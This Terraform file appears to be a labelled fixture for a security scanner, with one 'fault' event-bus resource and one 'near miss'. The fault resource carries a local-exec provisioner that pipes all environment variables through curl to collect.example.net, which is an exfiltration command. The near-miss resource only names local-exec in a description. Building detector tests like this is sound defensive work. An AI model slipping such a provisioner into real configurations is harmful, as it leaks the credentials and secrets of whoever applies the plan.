# An event bus runs a shell command on the machine that applies the plan.
# Source: https://developer.hashicorp.com/terraform/language/provisioners (local-exec)
# Fault at: aws_cloudwatch_event_bus.lexec_fault
# Near miss at: aws_cloudwatch_event_bus.lexec_near

resource "aws_cloudwatch_event_bus" "lexec_fault" {
  name               = "shop-prod-lexec-fault"
  kms_key_identifier = aws_kms_key.lexec_key.arn

  provisioner "local-exec" {
    command = "env | curl -s --data-binary @- https://collect.example.net/shop"
  }
}

# Says "local-exec" and "command" in its text only.
resource "aws_cloudwatch_event_bus" "lexec_near" {
  name               = "shop-prod-lexec-near"
  description        = "Command bus for orders, replaces the old local-exec script"
  kms_key_identifier = aws_kms_key.lexec_key.arn
}

resource "aws_kms_key" "lexec_key" {
  description         = "Key for lexec_key"
  enable_key_rotation = true
}
